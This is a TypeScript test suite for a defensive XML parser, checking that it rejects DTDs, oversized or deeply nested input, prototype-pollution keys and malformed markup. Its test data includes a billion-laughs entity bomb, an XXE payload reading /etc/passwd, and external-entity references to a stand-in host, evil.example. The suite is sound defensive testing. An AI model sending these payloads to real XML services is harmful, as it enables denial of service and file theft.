import { describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS } from './limits';
import { parseXml } from './parse-xml';
import { codeOf, expectNullPrototypes } from './test-helpers';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;

function nested(depth: number): string {
  return '<a>'.repeat(depth) + 'x' + '</a>'.repeat(depth);
}

describe('parseXml refuses DTDs', () => {
  it.each([
    ['billion laughs', BILLION_LAUGHS],
    ['external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
    ['parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>'],
    ['external DTD', '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'],
    ['lower-case doctype', '<!doctype x><x/>'],
    ['entity declaration inside the root', '<x><!ENTITY e "v"></x>'],
  ])('%s → doctype', (_label, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('doctype');
  });

  it('leaves an undeclared entity reference unexpanded: it is malformed', () => {
    expect(codeOf(() => parseXml('<x>&e;</x>'))).toBe('malformed');
  });
});

describe('parseXml limits', () => {
  it('has the documented defaults', () => {
    expect(DEFAULT_LIMITS).toEqual({ maxDepth: 32, maxElements: 20_000, maxBytes: 1_048_576 });
  });

  it('refuses 100,000-deep nesting quickly, without exhausting the stack', () => {
    const xml = nested(100_000);
    const started = performance.now();
    expect(codeOf(() => parseXml(xml))).toBe('too_deep');
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('accepts exactly maxDepth levels and refuses one more', () => {
    expect(codeOf(() => parseXml(nested(32)))).toBe('no error');
    expect(codeOf(() => parseXml(nested(33)))).toBe('too_deep');
    expect(codeOf(() => parseXml(nested(4), { maxDepth: 3 }))).toBe('too_deep');
  });

  it('refuses 50,000 sibling elements', () => {
    const xml = `<r>${'<i>1</i>'.repeat(50_000)}</r>`;
    expect(codeOf(() => parseXml(xml))).toBe('too_many_elements');
  });

  it('counts the root and self-closing elements', () => {
    expect(codeOf(() => parseXml('<r><a/><b/></r>', { maxElements: 3 }))).toBe('no error');
    expect(codeOf(() => parseXml('<r><a/><b/><c/></r>', { maxElements: 3 }))).toBe('too_many_elements');
  });

  it('parses many siblings when the limit allows', () => {
    const xml = `<r type="array">${'<i>1</i>'.repeat(50_000)}</r>`;
    const params = parseXml(xml, { maxElements: 50_001 });
    expect((params.r as string[]).length).toBe(50_000);
  });

  it('refuses a body over maxBytes, counting UTF-8 bytes', () => {
    const big = `<a>${'x'.repeat(DEFAULT_LIMITS.maxBytes)}</a>`;
    expect(codeOf(() => parseXml(big))).toBe('too_large');
    const accented = `<a>${'é'.repeat(10)}</a>`; // 17 characters, 27 bytes
    expect(codeOf(() => parseXml(accented, { maxBytes: 26 }))).toBe('too_large');
    expect(codeOf(() => parseXml(accented, { maxBytes: 27 }))).toBe('no error');
  });
});

describe('parseXml prototype safety', () => {
  it('keeps __proto__, constructor and prototype as plain own keys', () => {
    const params = parseXml(
      '<a><__proto__><polluted>yes</polluted></__proto__><constructor><prototype>p</prototype></constructor>' +
        '<toString>t</toString><hasOwnProperty>h</hasOwnProperty></a>',
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined();
    const a = params.a as Record<string, unknown>;
    expect(Object.getPrototypeOf(a)).toBeNull();
    expect(Object.keys(a)).toEqual(['__proto__', 'constructor', 'toString', 'hasOwnProperty']);
    expect(Object.getOwnPropertyDescriptor(a, '__proto__')?.value).toEqual({ polluted: 'yes' });
    expect(a.constructor).toEqual({ prototype: 'p' });
    expect(a.toString).toBe('t');
    expectNullPrototypes(params);
  });

  it('handles a __proto__ root and repeated __proto__ siblings', () => {
    const root = parseXml('<__proto__><polluted>yes</polluted></__proto__>');
    expect(Object.keys(root)).toEqual(['__proto__']);
    expect(Object.getPrototypeOf(root)).toBeNull();
    const repeated = parseXml('<a><__proto__>1</__proto__><__proto__>2</__proto__></a>');
    expect(Object.getOwnPropertyDescriptor(repeated.a, '__proto__')?.value).toEqual(['1', '2']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('parseXml refuses malformed documents', () => {
  it.each([
    ['empty string', ''],
    ['whitespace only', ' \n\t '],
    ['garbage', 'not xml at all'],
    ['JSON', '{"a": 1}'],
    ['unclosed tag', '<a><b>1</b>'],
    ['mismatched tags', '<a><b>1</a></b>'],
    ['stray end tag', '<a></a></b>'],
    ['two roots', '<a/><b/>'],
    ['two roots with content', '<a>1</a><b>2</b>'],
    ['text before the root', 'x<a/>'],
    ['text after the root', '<a/>x'],
    ['CDATA outside the root', '<a/><![CDATA[x]]>'],
    ['unquoted attribute', '<a b=1/>'],
    ['attribute without value', '<a b/>'],
    ['repeated attribute', '<a b="1" b="2"/>'],
    ['attributes run together', '<a b="1"c="2"/>'],
    ['< in an attribute', '<a b="<"/>'],
    ['unterminated comment', '<a><!-- x</a>'],
    ['unterminated CDATA', '<a><![CDATA[x</a>'],
    ['unterminated processing instruction', '<a><?pi x</a>'],
    ['bad name', '<1a/>'],
    ['space after <', '< a/>'],
    ['bare ampersand', '<a>fish & chips</a>'],
    ['bare <', '<a>1 < 2</a>'],
    ['control character', '<a>\u0001</a>'],
    ['NUL', '<a>\u0000</a>'],
    ['lone high surrogate in text', '<a>\uD800</a>'],
    ['lone low surrogate in text', '<a>x\uDFFFy</a>'],
    ['reversed surrogate pair', '<a>\uDE00\uD83D</a>'],
    ['lone surrogate in an attribute', '<a b="\uDBFF"/>'],
    ['lone surrogate in CDATA', '<a><![CDATA[\uDC00]]></a>'],
    ['lone surrogate in a comment', '<a><!--\uD800--></a>'],
    ['late XML declaration', '<a/><?xml version="1.0"?>'],
    ['unknown markup declaration', '<a><!ELEMENT a ANY></a>'],
    ['truncated start tag', '<a><b'],
    ['truncated end tag', '<a></a'],
  ])('%s → malformed', (_label, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('malformed');
  });
});
